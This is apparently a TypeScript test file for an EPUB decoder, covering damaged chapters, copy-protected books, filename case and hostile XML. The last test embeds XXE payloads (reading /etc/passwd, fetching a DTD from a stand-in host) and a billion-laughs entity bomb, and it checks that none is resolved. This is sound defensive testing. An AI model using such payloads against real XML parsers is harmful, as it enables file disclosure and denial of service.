import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { strToU8, zipSync } from 'fflate';
import { decodeSource } from '../../../renderer/import/decode-source.ts';
import { patched } from './patched-zip.ts';

const read = (name: string, bytes: Uint8Array) => {
  const decoded = decodeSource(bytes, name, { sanitise: true });
  return decoded.ok ? decoded.value : decoded.failure.code;
};
const containerXml =
  '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>' +
  '<rootfile full-path="OPS/a.opf"/></rootfiles></container>';
const opf = (more = '') =>
  `${more}<package xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata><dc:title>一本書</dc:title>` +
  '<dc:language>zh-Hant-TW</dc:language></metadata><manifest>' +
  ['one', 'two']
    .map((id) => `<item id="${id}" href="${id}.xhtml" media-type="application/xhtml+xml"/>`)
    .join('') +
  '</manifest><spine><itemref idref="one"/><itemref idref="two"/></spine></package>';
const chapter = (word: string) =>
  strToU8(`<html><body><p>${word}章裡有一段話，說了許多事。</p></body></html>`);
const book = (files: Record<string, Uint8Array> = {}) => ({
  mimetype: [strToU8('application/epub+zip'), { level: 0 }] as [Uint8Array, { level: 0 }],
  'META-INF/container.xml': strToU8(containerXml),
  'OPS/a.opf': strToU8(opf()),
  'OPS/one.xhtml': chapter('第一'),
  'OPS/two.xhtml': chapter('第二'),
  ...files,
});
const textOf = (bytes: Uint8Array): string => {
  const value = read('a.epub', bytes);
  return typeof value === 'string' ? `failed: ${value}` : value.source;
};

test('a book with one chapter that cannot be unpacked says so in its place', () => {
  const bytes = patched(zipSync(book()), (view, record, local, index) => {
    if (index !== 3) return;
    view.setUint16(record + 8, 1, true);
    view.setUint16(local + 6, 1, true);
  });
  const shown = textOf(bytes);
  assert.match(shown, /書裡有一部分讀不出來，這裡缺了：OPS\/one\.xhtml/);
  assert.match(shown, /第二章裡有一段話/);
});

test('a book under copy protection is named as such', () => {
  const protection = (...paths: string[]) =>
    paths.map((path) => `<e:CipherReference URI="${path}"/>`).join('');
  const locked = (...paths: string[]) =>
    zipSync(
      book({
        'META-INF/encryption.xml': strToU8(`<encryption xmlns:e="x">${protection(...paths)}</encryption>`),
      }),
    );
  assert.equal(textOf(locked('OPS/one.xhtml', 'OPS/two.xhtml')), 'failed: protected');
  assert.equal(textOf(locked('OPS/ONE.xhtml', 'OPS/two.xhtml')), 'failed: protected');
  assert.equal(textOf(locked('OPS/two.xhtml')), 'failed: protected');
  assert.match(textOf(locked('OPS/font.otf')), /第一章[\s\S]*第二章/);
});

test('a book is found without its mimetype, and its files without their exact case', () => {
  const { mimetype: _, ...rest } = book();
  assert.match(textOf(zipSync(rest)), /第一章[\s\S]*第二章/);
  const { 'OPS/one.xhtml': one, ...others } = rest;
  assert.match(textOf(zipSync({ ...others, 'ops/ONE.XHTML': one as Uint8Array })), /第一章[\s\S]*第二章/);
});

test('entities in the package of a book are never resolved, and deep nesting ends', () => {
  const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
    '',
  );
  for (const [entities, title] of [
    ['<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'],
    [`<!ENTITY l0 "ha">${laughs}`, '&l12;'],
    ['<!ENTITY % p SYSTEM "http://a.example/evil.dtd">%p;', '&evil;'],
  ] as const) {
    const file = opf(`<!DOCTYPE package [${entities}]>`).replace('一本書', title);
    const shown = textOf(zipSync(book({ 'OPS/a.opf': strToU8(file) })));
    assert.ok(shown.startsWith('failed: ') || /第一章[\s\S]*第二章/.test(shown), shown.slice(0, 60));
    assert.doesNotMatch(shown, /root:|haha/);
  }
  for (const deep of ['<a>'.repeat(200_000), `${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`]) {
    const file = opf().replace('<manifest>', `<extra>${deep}</extra><manifest>`);
    assert.equal(textOf(zipSync(book({ 'OPS/a.opf': strToU8(file) }))), 'failed: damaged');
  }
});
